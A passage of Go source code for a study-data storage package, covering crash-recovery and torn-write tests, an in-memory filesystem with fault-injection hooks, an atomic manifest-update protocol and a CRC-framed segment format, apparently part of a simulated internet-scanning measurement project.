	if got := renderTiny(t, cfg, gotM); got != want {
		t.Error("recovered material renders differently")
	}
}

// TestWriteStudyCrashMidWrite crashes after a partially synced write
// at a range of cut points: whatever survives must reopen as either
// nothing or a valid truncated prefix — never an error, never damaged
// material.
func TestWriteStudyCrashMidWrite(t *testing.T) {
	_, m := generateTiny(t)
	for _, keep := range []int{0, 1, 11, 12, 4 << 10, 128 << 10, 512 << 10} {
		fsys := NewMemFS()
		s := mustOpen(t, fsys)

		// The device accepts only the first `keep` bytes in total and
		// errors after that; everything accepted is then synced before
		// the crash (worst case: the torn prefix is durable).
		accepted := 0
		fsys.WriteHook = func(name string, p []byte) (int, error) {
			if accepted >= keep {
				return 0, errInjected
			}
			n := keep - accepted
			if n > len(p) {
				n = len(p)
			}
			accepted += n
			if n < len(p) {
				return n, errInjected
			}
			return n, nil
		}
		if err := s.WriteStudy([]byte(`{}`), m); !errors.Is(err, errInjected) {
			t.Fatalf("keep=%d: want injected error, got %v", keep, err)
		}
		fsys.WriteHook = nil
		// Force the torn prefix durable, then cut power.
		f, err := fsys.OpenFile("study/segment", os.O_WRONLY|os.O_CREATE)
		if err == nil {
			f.Sync()
			f.Close()
		}
		fsys.Crash()

		s2 := mustOpen(t, fsys)
		if _, gotM := s2.Recovered(); gotM != nil {
			t.Fatalf("keep=%d: torn segment recovered a study", keep)
		}
	}
}

func TestWriteStudySyncFailure(t *testing.T) {
	_, m := generateTiny(t)
	fsys := NewMemFS()
	s := mustOpen(t, fsys)
	fsys.SyncHook = func(name string) error { return errInjected }
	if err := s.WriteStudy([]byte(`{}`), m); !errors.Is(err, errInjected) {
		t.Fatalf("sync failure surfaced as %v", err)
	}
	fsys.SyncHook = nil
	fsys.Crash()
	if _, gotM := mustOpen(t, fsys).Recovered(); gotM != nil {
		t.Fatal("unsynced segment survived the crash")
	}
}

// TestSetIngestedFaults drives the manifest protocol through sync
// failure, rename failure, and crash-before-rename: the acknowledged
// cursor must never move unless the full write-sync-rename sequence
// succeeded.
func TestSetIngestedFaults(t *testing.T) {
	_, m := generateTiny(t)
	fsys := NewMemFS()
	s := mustOpen(t, fsys)
	if err := s.WriteStudy([]byte(`{}`), m); err != nil {
		t.Fatal(err)
	}
	if err := s.SetIngested(1); err != nil {
		t.Fatal(err)
	}

	steps := []struct {
		name   string
		inject func()
		clear  func()
	}{
		{"sync failure", func() { fsys.SyncHook = func(string) error { return errInjected } }, func() { fsys.SyncHook = nil }},
		{"rename failure", func() { fsys.RenameHook = func(_, _ string) error { return errInjected } }, func() { fsys.RenameHook = nil }},
		{"write failure", func() { fsys.WriteHook = func(_ string, p []byte) (int, error) { return 0, errInjected } }, func() { fsys.WriteHook = nil }},
	}
	for _, step := range steps {
		step.inject()
		if err := s.SetIngested(2); !errors.Is(err, errInjected) {
			t.Fatalf("%s: surfaced as %v", step.name, err)
		}
		step.clear()
		fsys.Crash()
		if got := mustOpen(t, fsys).Ingested(); got != 1 {
			t.Fatalf("%s: cursor moved to %d after failed update", step.name, got)
		}
	}

	// The successful retry after all that lands at 2.
	if err := s.SetIngested(2); err != nil {
		t.Fatal(err)
	}
	if got := mustOpen(t, fsys).Ingested(); got != 2 {
		t.Fatalf("cursor %d after successful update", got)
	}
}

// TestManifestCrashStraddle verifies the "either old or new" atomic
// guarantee across the whole cursor history: after each acknowledged
// update, a crash leaves exactly that cursor.
func TestManifestCrashStraddle(t *testing.T) {
	_, m := generateTiny(t)
	fsys := NewMemFS()
	s := mustOpen(t, fsys)
	if err := s.WriteStudy([]byte(`{}`), m); err != nil {
		t.Fatal(err)
	}
	for n := 1; n <= tinyEpochs; n++ {
		if err := s.SetIngested(n); err != nil {
			t.Fatal(err)
		}
		fsys.Crash()
		if got := mustOpen(t, fsys).Ingested(); got != n {
			t.Fatalf("after crash: cursor %d, want %d", got, n)
		}
	}
}
