package store

import (
	"fmt"
	"io"
	"io/fs"
	"os"
	"sync"
)

// MemFS is an in-memory FS that models the durability contract the
// store depends on: every file keeps two images — what the process
// sees (data) and what would survive a power cut (synced). Writes
// touch only data; Sync promotes data to synced; Crash throws away
// everything unsynced, deleting files that were never synced at all.
// Rename is modeled as atomic and immediately durable (the journaled-
// metadata behavior the manifest protocol assumes).
//
// Fault hooks (WriteHook, SyncHook, RenameHook) intercept operations
// to inject short writes, write errors, and sync failures at
// programmable points. Hooks are called with the MemFS lock held, so
// they must not call back into the filesystem. Set hooks before
// handing the FS to a Store; mutating them mid-flight races.
type MemFS struct {
	// WriteHook, if set, is consulted before each write with the file
	// name and the pending bytes; it returns how many bytes to accept
	// and an optional error. n < len(p) models a short write: the
	// prefix still lands in the file image.
	WriteHook func(name string, p []byte) (n int, err error)
	// SyncHook, if set, may fail a Sync; on error nothing is promoted
	// to the durable image.
	SyncHook func(name string) error
	// RenameHook, if set, may fail a Rename before it takes effect.
	RenameHook func(oldpath, newpath string) error

	mu    sync.Mutex
	files map[string]*memNode
}

type memNode struct {
	data   []byte
	synced []byte
	// everSynced distinguishes "created this power cycle, never
	// synced" (file vanishes on crash) from "synced empty".
	everSynced bool
}

// NewMemFS returns an empty in-memory filesystem.
func NewMemFS() *MemFS { return &MemFS{files: make(map[string]*memNode)} }

func (m *MemFS) MkdirAll(path string) error { return nil }

func (m *MemFS) OpenFile(name string, flag int) (File, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	node := m.files[name]
	switch {
	case flag&os.O_WRONLY != 0:
		if flag&os.O_CREATE == 0 && node == nil {
			return nil, &fs.PathError{Op: "open", Path: name, Err: fs.ErrNotExist}
		}
		if node == nil {
			node = &memNode{}
			m.files[name] = node
		}
		if flag&os.O_TRUNC != 0 {
			node.data = nil
		}
		return &memFile{fs: m, name: name, node: node, writable: true}, nil
	default: // read-only
		if node == nil {
			return nil, &fs.PathError{Op: "open", Path: name, Err: fs.ErrNotExist}
		}
		return &memFile{fs: m, name: name, node: node}, nil
	}
}

func (m *MemFS) Rename(oldpath, newpath string) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.RenameHook != nil {
		if err := m.RenameHook(oldpath, newpath); err != nil {
			return err
		}
	}
	node := m.files[oldpath]
	if node == nil {
		return &fs.PathError{Op: "rename", Path: oldpath, Err: fs.ErrNotExist}
	}
	delete(m.files, oldpath)
	// Atomic and durable: the renamed file carries its current data as
	// the surviving image (rename barriers on journaling filesystems).
	m.files[newpath] = &memNode{
		data:       append([]byte(nil), node.data...),
		synced:     append([]byte(nil), node.data...),
		everSynced: true,
	}
	return nil
}

func (m *MemFS) Truncate(name string, size int64) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	node := m.files[name]
	if node == nil {
		return &fs.PathError{Op: "truncate", Path: name, Err: fs.ErrNotExist}
	}
	if size < 0 || size > int64(len(node.data)) {
		return fmt.Errorf("memfs: truncate %s to %d bytes (have %d)", name, size, len(node.data))
	}
	node.data = node.data[:size]
	if int64(len(node.synced)) > size {
		node.synced = node.synced[:size]
	}
	return nil
}

// Crash simulates a power cut: every file reverts to its last synced
// image, and files that were never synced disappear. Open handles from
// before the crash keep working against the revived images (the tests
// reopen through the store anyway).
func (m *MemFS) Crash() {
	m.mu.Lock()
	defer m.mu.Unlock()
	for name, node := range m.files {
		if !node.everSynced {
			delete(m.files, name)
			continue
		}
		node.data = append([]byte(nil), node.synced...)
	}
}

// Bytes returns a copy of a file's current (volatile) content, or nil
// if absent.
func (m *MemFS) Bytes(name string) []byte {
	m.mu.Lock()
	defer m.mu.Unlock()
	node := m.files[name]
	if node == nil {
		return nil
	}
	return append([]byte(nil), node.data...)
}

// SetBytes replaces a file's content, marking it fully synced — the
// handle tests use to plant arbitrary (e.g. truncated or corrupted)
// segment images.
func (m *MemFS) SetBytes(name string, b []byte) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.files[name] = &memNode{
		data:       append([]byte(nil), b...),
		synced:     append([]byte(nil), b...),
		everSynced: true,
	}
}

type memFile struct {
	fs       *MemFS
	name     string
	node     *memNode
	off      int
	writable bool
	closed   bool
}

func (f *memFile) Read(p []byte) (int, error) {
	f.fs.mu.Lock()
	defer f.fs.mu.Unlock()
	if f.closed {
		return 0, fs.ErrClosed
	}
	if f.off >= len(f.node.data) {
		return 0, io.EOF
	}
	n := copy(p, f.node.data[f.off:])
	f.off += n
	return n, nil
}

func (f *memFile) Write(p []byte) (int, error) {
	f.fs.mu.Lock()
	defer f.fs.mu.Unlock()
	if f.closed {
		return 0, fs.ErrClosed
	}
	if !f.writable {
		return 0, fmt.Errorf("memfs: %s opened read-only", f.name)
	}
	n, err := len(p), error(nil)
	if f.fs.WriteHook != nil {
		n, err = f.fs.WriteHook(f.name, p)
		if n > len(p) {
			n = len(p)
		}
	}
	f.node.data = append(f.node.data, p[:n]...)
	if err == nil && n < len(p) {
		err = io.ErrShortWrite
	}
	return n, err
}

func (f *memFile) Sync() error {
	f.fs.mu.Lock()
	defer f.fs.mu.Unlock()
	if f.closed {
		return fs.ErrClosed
	}
	if f.fs.SyncHook != nil {
		if err := f.fs.SyncHook(f.name); err != nil {
			return err
		}
	}
	f.node.synced = append([]byte(nil), f.node.data...)
	f.node.everSynced = true
	return nil
}

func (f *memFile) Close() error {
	f.fs.mu.Lock()
	defer f.fs.mu.Unlock()
	f.closed = true
	return nil
}
