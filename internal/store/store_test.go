package store

import (
	"bytes"
	"testing"

	"cloudwatch/internal/cloud"
	"cloudwatch/internal/core"
	"cloudwatch/internal/scanners"
)

// tinyConfig is deliberately smaller than the other packages' test
// studies: the torn-tail matrix reopens the store once per byte of
// the final frame, so the segment has to stay small.
func tinyConfig(seed int64, year int) core.Config {
	cfg := core.DefaultConfig(seed, year)
	cfg.Deploy = cloud.DefaultConfig(seed, year)
	cfg.Deploy.TelescopeSlash24s = 4
	cfg.Deploy.HoneytrapPerCloud = 4
	cfg.Deploy.HurricaneIPs = 4
	cfg.Actors = scanners.Config{Seed: seed, Year: year, Scale: 0.05}
	cfg.Workers = 2
	return cfg
}

const tinyEpochs = 2

func generateTiny(t *testing.T) (core.Config, *core.StudyMaterial) {
	t.Helper()
	cfg := tinyConfig(42, 2021)
	es, err := core.GenerateEpochs(cfg, tinyEpochs)
	if err != nil {
		t.Fatal(err)
	}
	return cfg, es.Material()
}

// renderTiny restores material and renders one table — the cheap
// byte-identity probe the store tests use (the full render matrix
// lives in the core and stream suites).
func renderTiny(t *testing.T, cfg core.Config, m *core.StudyMaterial) string {
	t.Helper()
	es, err := core.RestoreEpochSet(cfg, m)
	if err != nil {
		t.Fatal(err)
	}
	snap, err := es.Snapshot(tinyEpochs)
	if err != nil {
		t.Fatal(err)
	}
	out, ok := core.RenderExperiment(snap, "table2")
	if !ok {
		t.Fatal("table2 not registered")
	}
	return out
}

func TestStoreRoundTrip(t *testing.T) {
	cfg, m := generateTiny(t)
	want := renderTiny(t, cfg, m)
	cfgJSON := []byte(`{"probe":"config"}`)

	fsys := NewMemFS()
	s, err := Open(fsys, "study")
	if err != nil {
		t.Fatal(err)
	}
	if gotCfg, gotM := s.Recovered(); gotCfg != nil || gotM != nil {
		t.Fatal("empty store recovered a study")
	}
	if s.Ingested() != 0 {
		t.Fatalf("empty store ingested=%d", s.Ingested())
	}
	if err := s.WriteStudy(cfgJSON, m); err != nil {
		t.Fatal(err)
	}
	if err := s.SetIngested(1); err != nil {
		t.Fatal(err)
	}
	if err := s.SetIngested(2); err != nil {
		t.Fatal(err)
	}

	reopened, err := Open(fsys, "study")
	if err != nil {
		t.Fatal(err)
	}
	gotCfg, gotM := reopened.Recovered()
	if !bytes.Equal(gotCfg, cfgJSON) {
		t.Fatalf("recovered config %q", gotCfg)
	}
	if gotM == nil {
		t.Fatalf("nothing recovered: %s", reopened.Note())
	}
	if reopened.Ingested() != 2 {
		t.Fatalf("ingested=%d, want 2", reopened.Ingested())
	}
	if got := renderTiny(t, cfg, gotM); got != want {
		t.Error("recovered material renders differently from the original")
	}
}

func TestIngestCursorClampedToEpochs(t *testing.T) {
	_, m := generateTiny(t)
	fsys := NewMemFS()
	s, err := Open(fsys, "study")
	if err != nil {
		t.Fatal(err)
	}
	if err := s.WriteStudy([]byte(`{}`), m); err != nil {
		t.Fatal(err)
	}
	if err := s.SetIngested(99); err != nil {
		t.Fatal(err)
	}
	reopened, err := Open(fsys, "study")
	if err != nil {
		t.Fatal(err)
	}
	if got := reopened.Ingested(); got != tinyEpochs {
		t.Fatalf("ingested=%d, want clamp to %d", got, tinyEpochs)
	}
}

func TestCorruptManifestFallsBackToZero(t *testing.T) {
	_, m := generateTiny(t)
	fsys := NewMemFS()
	s, err := Open(fsys, "study")
	if err != nil {
		t.Fatal(err)
	}
	if err := s.WriteStudy([]byte(`{}`), m); err != nil {
		t.Fatal(err)
	}
	if err := s.SetIngested(2); err != nil {
		t.Fatal(err)
	}
	fsys.SetBytes("study/manifest.json", []byte("not json{"))
	reopened, err := Open(fsys, "study")
	if err != nil {
		t.Fatal(err)
	}
	if got := reopened.Ingested(); got != 0 {
		t.Fatalf("ingested=%d after corrupt manifest, want 0", got)
	}
	if _, gotM := reopened.Recovered(); gotM == nil {
		t.Fatal("segment should still recover")
	}
}

// frameBounds re-derives every frame's [start, end) byte range of an
// encoded segment so the torn-tail tests can target exact offsets.
func frameBounds(t *testing.T, seg []byte) [][2]int {
	t.Helper()
	frames, valid := scanSegment(seg)
	if valid != len(seg) {
		t.Fatalf("pristine segment scans to %d of %d bytes", valid, len(seg))
	}
	bounds := make([][2]int, 0, len(frames))
	off := len(segMagic) + 4
	for _, fr := range frames {
		end := off + 5 + len(fr.payload) + 4
		bounds = append(bounds, [2]int{off, end})
		off = end
	}
	return bounds
}

// TestTornTailMatrixEveryByte cuts a segment at EVERY byte offset and
// proves each cut recovers: Open succeeds, truncates the file to the
// last valid frame boundary, and recovers nothing rather than
// something damaged. The segment under the knife is a small synthetic
// one (the frame layer is payload-agnostic); the same property on a
// real study segment — whose final frame alone is hundreds of
// kilobytes — is checked at sampled offsets in
// TestTornTailRecoversRealStudy.
func TestTornTailMatrixEveryByte(t *testing.T) {
	payloads := [][]byte{
		[]byte(`{"probe":"config"}`),
		bytes.Repeat([]byte{0xA5, 0x00, 0x5A}, 40),
		make([]byte, 257),
		[]byte{},
		bytes.Repeat([]byte("frame"), 60),
	}
	seg := []byte(segMagic)
	seg = append(seg, segVersion, 0, 0, 0) // current version, little-endian
	typ := []uint8{frameConfig, frameDict, frameLayout, frameEpoch, frameEpoch}
	for i, p := range payloads {
		seg = appendFrame(seg, typ[i], p)
	}
	bounds := frameBounds(t, seg)

	for cut := 0; cut <= len(seg); cut++ {
		tfs := NewMemFS()
		tfs.SetBytes("study/segment", seg[:cut])
		ts, err := Open(tfs, "study")
		if err != nil {
			t.Fatalf("cut %d: open: %v", cut, err)
		}
		if _, gotM := ts.Recovered(); gotM != nil {
			t.Fatalf("cut %d: torn segment recovered a study", cut)
		}
		wantLen := 0
		if cut >= len(segMagic)+4 { // an intact header is itself a valid prefix
			wantLen = len(segMagic) + 4
		}
		for _, b := range bounds {
			if b[1] <= cut {
				wantLen = b[1]
			}
		}
		if got := len(tfs.Bytes("study/segment")); got != wantLen {
			t.Fatalf("cut %d: truncated to %d, want last valid boundary %d", cut, got, wantLen)
		}
	}
}

// TestTornTailRecoversRealStudy tears a real study segment at sampled
// offsets — every frame boundary, its neighbors, and a spread across
// the final frame — and drives the full recovery loop at each: Open
// truncates and recovers nothing, regeneration rewrites the segment,
// and the rewritten store renders byte-identically to the original.
func TestTornTailRecoversRealStudy(t *testing.T) {
	cfg, m := generateTiny(t)
	want := renderTiny(t, cfg, m)

	fsys := NewMemFS()
	s, err := Open(fsys, "study")
	if err != nil {
		t.Fatal(err)
	}
	if err := s.WriteStudy([]byte(`{}`), m); err != nil {
		t.Fatal(err)
	}
	seg := fsys.Bytes("study/segment")
	bounds := frameBounds(t, seg)
	finalStart, finalEnd := bounds[len(bounds)-1][0], bounds[len(bounds)-1][1]
	t.Logf("segment %d bytes, final frame [%d, %d)", len(seg), finalStart, finalEnd)

	cutSet := map[int]bool{0: true, 1: true, len(segMagic) + 3: true}
	for _, b := range bounds {
		for _, cut := range []int{b[0] - 1, b[0], b[0] + 1, b[1] - 1} {
			if cut >= 0 && cut < len(seg) {
				cutSet[cut] = true
			}
		}
	}
	for i := 0; i < 16; i++ { // spread across the final frame
		cutSet[finalStart+(finalEnd-finalStart)*i/16] = true
	}
	cuts := make([]int, 0, len(cutSet))
	for cut := range cutSet {
		cuts = append(cuts, cut)
	}

	for _, cut := range cuts {
		tfs := NewMemFS()
		tfs.SetBytes("study/segment", seg[:cut])
		ts, err := Open(tfs, "study")
		if err != nil {
			t.Fatal(err)
		}
		if _, gotM := ts.Recovered(); gotM != nil {
			t.Fatalf("cut %d: torn segment recovered a study", cut)
		}
		wantLen := 0
		if cut >= len(segMagic)+4 { // an intact header is itself a valid prefix
			wantLen = len(segMagic) + 4
		}
		for _, b := range bounds {
			if b[1] <= cut {
				wantLen = b[1]
			}
		}
		if got := len(tfs.Bytes("study/segment")); got != wantLen {
			t.Fatalf("cut %d: truncated to %d, want last valid boundary %d", cut, got, wantLen)
		}
		if err := ts.WriteStudy([]byte(`{}`), m); err != nil {
			t.Fatalf("cut %d: rewrite: %v", cut, err)
		}
		reopened, err := Open(tfs, "study")
		if err != nil {
			t.Fatal(err)
		}
		_, gotM := reopened.Recovered()
		if gotM == nil {
			t.Fatalf("cut %d: rewrite did not recover: %s", cut, reopened.Note())
		}
		if got := renderTiny(t, cfg, gotM); got != want {
			t.Fatalf("cut %d: rewritten material renders differently", cut)
		}
	}
}

// TestCorruptFrameRejected flips one byte inside each frame and
// expects recovery to stop at that frame, never to return damaged
// material.
func TestCorruptFrameRejected(t *testing.T) {
	_, m := generateTiny(t)
	fsys := NewMemFS()
	s, err := Open(fsys, "study")
	if err != nil {
		t.Fatal(err)
	}
	if err := s.WriteStudy([]byte(`{}`), m); err != nil {
		t.Fatal(err)
	}
	seg := fsys.Bytes("study/segment")
	for _, b := range frameBounds(t, seg) {
		mid := (b[0] + b[1]) / 2
		bad := append([]byte(nil), seg...)
		bad[mid] ^= 0x40
		tfs := NewMemFS()
		tfs.SetBytes("study/segment", bad)
		ts, err := Open(tfs, "study")
		if err != nil {
			t.Fatalf("corrupt byte %d: open: %v", mid, err)
		}
		if _, gotM := ts.Recovered(); gotM != nil {
			t.Fatalf("corrupt byte %d: damaged segment recovered a study", mid)
		}
	}
}
