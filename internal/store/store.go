package store

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sync"

	"cloudwatch/internal/core"
	"cloudwatch/internal/obs"
)

const (
	segmentName  = "segment"
	manifestName = "manifest.json"
)

// Durability observability: write volume, fsync pressure, and what
// recovery found. The per-outcome recovery counters share one family
// (store_recovery_total) with the outcome as a label; "recovered" and
// "regenerated" are stamped by the engine opening the store (which is
// where the decision lands — see stream.Open), the torn-tail counter
// here because only Open sees the truncation.
var (
	mBytesWritten = obs.Default().Counter("store_bytes_written_total",
		"Bytes written to segment and manifest files.")
	mFramesWritten = obs.Default().Counter("store_frames_written_total",
		"CRC32-framed blocks written into segment files.")
	mFsyncs = obs.Default().Counter("store_fsync_total",
		"File syncs issued by segment and manifest writes.")
	mTornTail = obs.Default().Counter("store_recovery_total",
		"Store recovery outcomes.", obs.L("outcome", "torn-tail-truncated"))
)

// RecoveryOutcome counts one store-open outcome ("recovered" or
// "regenerated") in store_recovery_total; the opener calls it once the
// decision is made.
func RecoveryOutcome(outcome string) {
	obs.Default().Counter("store_recovery_total", "Store recovery outcomes.",
		obs.L("outcome", outcome)).Inc()
}

// Store is one on-disk study directory: the segment file plus the
// ingest manifest. Open recovers whatever the directory holds;
// WriteStudy (re)writes the segment wholesale; SetIngested advances
// the manifest atomically after each successful engine ingest. Safe
// for concurrent use.
type Store struct {
	fsys FS
	dir  string

	mu       sync.Mutex
	ingested int
	cfgJSON  []byte
	material *core.StudyMaterial
	note     string
}

// manifest is the durable ingest cursor. It is tiny on purpose: the
// segment is immutable once written, so crash recovery only has to
// reason about this one value, and the atomic-rename update protocol
// makes every observable manifest state a valid prefix.
type manifest struct {
	Version  int `json:"version"`
	Ingested int `json:"ingested"`
}

// Open mounts a study directory, creating it if absent. It validates
// the segment frame by frame, truncates a torn tail at the last valid
// frame boundary, and decodes the persisted study if the segment is
// complete. Open fails only on real I/O errors — a torn, truncated,
// or alien segment simply recovers nothing (Recovered returns nil)
// and the caller regenerates.
func Open(fsys FS, dir string) (*Store, error) {
	if err := fsys.MkdirAll(dir); err != nil {
		return nil, fmt.Errorf("store: mkdir %s: %w", dir, err)
	}
	s := &Store{fsys: fsys, dir: dir}

	segPath := filepath.Join(dir, segmentName)
	seg, err := readFile(fsys, segPath)
	if err != nil {
		return nil, fmt.Errorf("store: read segment: %w", err)
	}
	frames, valid := scanSegment(seg)
	if valid < len(seg) {
		if err := fsys.Truncate(segPath, int64(valid)); err != nil {
			return nil, fmt.Errorf("store: truncate torn segment tail: %w", err)
		}
		mTornTail.Inc()
	}
	switch {
	case seg == nil:
		s.note = "no segment"
	default:
		cfgJSON, m, reason := decodeFrames(frames)
		if m == nil {
			s.note = reason
			if valid < len(seg) {
				s.note = fmt.Sprintf("%s (tail torn at byte %d of %d)", reason, valid, len(seg))
			}
		} else {
			s.cfgJSON = cfgJSON
			s.material = m
			s.note = fmt.Sprintf("recovered %d-epoch study", len(m.Epochs))
		}
	}

	mf, err := readFile(fsys, filepath.Join(dir, manifestName))
	if err != nil {
		return nil, fmt.Errorf("store: read manifest: %w", err)
	}
	if mf != nil {
		var man manifest
		// A manifest only ever appears via atomic rename, so a parse
		// failure is foreign damage, not a crash artifact; falling back
		// to zero ingested is always a valid prefix.
		if json.Unmarshal(mf, &man) == nil && man.Version == 1 && man.Ingested > 0 {
			s.ingested = man.Ingested
		}
	}
	if s.material != nil && s.ingested > len(s.material.Epochs) {
		s.ingested = len(s.material.Epochs)
	}
	return s, nil
}

// Recovered returns the persisted study — its normalized config JSON
// and sealed material — or nils when the segment held no complete
// study (regenerate and WriteStudy in that case).
func (s *Store) Recovered() (configJSON []byte, m *core.StudyMaterial) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.cfgJSON, s.material
}

// Ingested returns the manifest's ingest cursor as of the last Open
// or SetIngested.
func (s *Store) Ingested() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.ingested
}

// Note describes what Open found, for operator logs: a recovery, an
// empty directory, or why the segment was unusable.
func (s *Store) Note() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.note
}

// WriteStudy serializes the study into a fresh segment and syncs it.
// A crash mid-write leaves a torn tail the next Open truncates and
// regenerates past; once WriteStudy returns, the segment is durable.
func (s *Store) WriteStudy(configJSON []byte, m *core.StudyMaterial) error {
	sp := obs.StartStage(obs.StageStorePersist)
	defer sp.End()
	buf := encodeSegment(configJSON, m)
	f, err := s.fsys.OpenFile(filepath.Join(s.dir, segmentName), os.O_WRONLY|os.O_CREATE|os.O_TRUNC)
	if err != nil {
		return fmt.Errorf("store: create segment: %w", err)
	}
	if _, err := f.Write(buf); err != nil {
		f.Close()
		return fmt.Errorf("store: write segment: %w", err)
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return fmt.Errorf("store: sync segment: %w", err)
	}
	if err := f.Close(); err != nil {
		return fmt.Errorf("store: close segment: %w", err)
	}
	mBytesWritten.Add(int64(len(buf)))
	// The segment layout: config + payload-dict + layout frames, then
	// one frame per epoch (encodeSegment).
	mFramesWritten.Add(int64(3 + len(m.Epochs)))
	mFsyncs.Inc()
	s.mu.Lock()
	s.cfgJSON = configJSON
	s.material = m
	s.note = fmt.Sprintf("wrote %d-epoch study (%d bytes)", len(m.Epochs), len(buf))
	s.mu.Unlock()
	return nil
}

// SetIngested durably records that the first n epochs are ingested:
// the manifest is rewritten to a temporary file, synced, and renamed
// over the old one, so a crash anywhere in between leaves either the
// previous cursor or the new one — both valid prefixes.
func (s *Store) SetIngested(n int) error {
	if n < 0 {
		return fmt.Errorf("store: negative ingest cursor %d", n)
	}
	sp := obs.StartStage(obs.StageStorePersist)
	defer sp.End()
	buf, err := json.Marshal(manifest{Version: 1, Ingested: n})
	if err != nil {
		return err
	}
	buf = append(buf, '\n')
	tmp := filepath.Join(s.dir, manifestName+".tmp")
	f, err := s.fsys.OpenFile(tmp, os.O_WRONLY|os.O_CREATE|os.O_TRUNC)
	if err != nil {
		return fmt.Errorf("store: create manifest tmp: %w", err)
	}
	if _, err := f.Write(buf); err != nil {
		f.Close()
		return fmt.Errorf("store: write manifest: %w", err)
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return fmt.Errorf("store: sync manifest: %w", err)
	}
	if err := f.Close(); err != nil {
		return fmt.Errorf("store: close manifest: %w", err)
	}
	if err := s.fsys.Rename(tmp, filepath.Join(s.dir, manifestName)); err != nil {
		return fmt.Errorf("store: publish manifest: %w", err)
	}
	mBytesWritten.Add(int64(len(buf)))
	mFsyncs.Inc()
	s.mu.Lock()
	s.ingested = n
	s.mu.Unlock()
	return nil
}

// Close releases the store. The segment and manifest are synced at
// every mutation, so Close has nothing to flush; it exists so callers
// can treat the store like any other resource.
func (s *Store) Close() error { return nil }
