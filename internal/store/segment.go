package store

import (
	"fmt"
	"hash/crc32"

	"cloudwatch/internal/core"
	"cloudwatch/internal/greynoise"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/telescope"
	"cloudwatch/internal/wire"
)

// Segment layout: an 12-byte header (magic + format version) followed
// by self-delimiting frames
//
//	[u8 type][u32 len][payload: len bytes][u32 crc32-IEEE]
//
// where the checksum covers type, length, and payload. A reader stops
// at the first frame whose header, length, or checksum does not hold;
// everything before that boundary is valid by construction, so a tail
// torn by a crash costs only the unsynced suffix. A complete study is
// exactly the sequence
//
//	config (JSON) · payload dict · layout · epoch × layout.epochs
//
// and anything short of that (or any structural decode failure inside
// a checksummed frame) degrades to "nothing recovered" — the caller
// regenerates deterministically and rewrites the segment.
const (
	segMagic = "CWEPOCHS"
	// segVersion 2 added the scenario id to the layout frame. A v1
	// segment decodes as "nothing recovered": the reader regenerates
	// deterministically and rewrites the segment in the current format,
	// the same degradation path as a torn tail.
	segVersion = 2

	frameConfig = 1 // normalized study config JSON
	frameDict   = 2 // payload interner dictionary
	frameLayout = 3 // worker width, epoch count, scenario id, actor->worker map
	frameEpoch  = 4 // one epoch: per-worker sinks + per-actor run bounds
)

// maxFrameLen bounds a single frame so a corrupt length prefix cannot
// force a giant allocation before the checksum is even consulted.
const maxFrameLen = 1 << 31

type frame struct {
	typ     uint8
	payload []byte
}

func appendFrame(dst []byte, typ uint8, payload []byte) []byte {
	start := len(dst)
	dst = wire.AppendU8(dst, typ)
	dst = wire.AppendU32(dst, uint32(len(payload)))
	dst = append(dst, payload...)
	return wire.AppendU32(dst, crc32.ChecksumIEEE(dst[start:]))
}

// scanSegment walks the raw segment image and returns every frame up
// to the first invalid byte, plus the offset of that boundary (the
// length the file should be truncated to). An unrecognizable header
// invalidates the whole file.
func scanSegment(buf []byte) (frames []frame, validLen int) {
	if len(buf) < len(segMagic)+4 || string(buf[:len(segMagic)]) != segMagic {
		return nil, 0
	}
	r := wire.NewBinReader(buf[len(segMagic):])
	if r.U32() != segVersion {
		return nil, 0
	}
	off := len(segMagic) + 4
	for off < len(buf) {
		rest := buf[off:]
		if len(rest) < 5 {
			break
		}
		n := int(uint32(rest[1]) | uint32(rest[2])<<8 | uint32(rest[3])<<16 | uint32(rest[4])<<24)
		if n >= maxFrameLen || len(rest) < 5+n+4 {
			break
		}
		body := rest[:5+n]
		sum := uint32(rest[5+n]) | uint32(rest[5+n+1])<<8 | uint32(rest[5+n+2])<<16 | uint32(rest[5+n+3])<<24
		if crc32.ChecksumIEEE(body) != sum {
			break
		}
		frames = append(frames, frame{typ: body[0], payload: body[5:]})
		off += 5 + n + 4
	}
	return frames, off
}

// encodeSegment serializes a full study into segment bytes.
func encodeSegment(configJSON []byte, m *core.StudyMaterial) []byte {
	buf := wire.AppendU32([]byte(segMagic), segVersion)

	buf = appendFrame(buf, frameConfig, configJSON)
	buf = appendFrame(buf, frameDict, netsim.AppendPayloadDict(nil))

	var layout []byte
	layout = wire.AppendU32(layout, uint32(m.Workers))
	layout = wire.AppendU32(layout, uint32(len(m.Epochs)))
	layout = wire.AppendString(layout, m.Scenario)
	layout = wire.AppendI32s(layout, m.ActorWorker)
	buf = appendFrame(buf, frameLayout, layout)

	for e := range m.Epochs {
		em := &m.Epochs[e]
		var p []byte
		for w := range em.Sinks {
			sm := &em.Sinks[w]
			p = sm.Tel.AppendBinary(p)
			p = sm.GN.AppendBinary(p)
			p = sm.Blk.AppendBinary(p)
			p = wire.AppendI32s(p, sm.Seq)
		}
		p = wire.AppendI32s(p, em.Lo)
		p = wire.AppendI32s(p, em.Hi)
		buf = appendFrame(buf, frameEpoch, p)
	}
	return buf
}

// decodeFrames rebuilds the persisted study from a valid frame
// sequence. A nil study with a reason means the segment (though every
// retained frame checksums) is not a complete usable study.
func decodeFrames(frames []frame) (configJSON []byte, m *core.StudyMaterial, reason string) {
	if len(frames) == 0 {
		return nil, nil, "segment empty or unrecognized"
	}
	expect := func(i int, typ uint8) ([]byte, bool) {
		if i >= len(frames) || frames[i].typ != typ {
			return nil, false
		}
		return frames[i].payload, true
	}
	cfgJSON, ok := expect(0, frameConfig)
	if !ok {
		return nil, nil, "segment missing config frame"
	}
	dict, ok := expect(1, frameDict)
	if !ok {
		return nil, nil, "segment missing payload dictionary"
	}
	remap, err := netsim.DecodePayloadDict(wire.NewBinReader(dict))
	if err != nil {
		return nil, nil, fmt.Sprintf("payload dictionary: %v", err)
	}
	layout, ok := expect(2, frameLayout)
	if !ok {
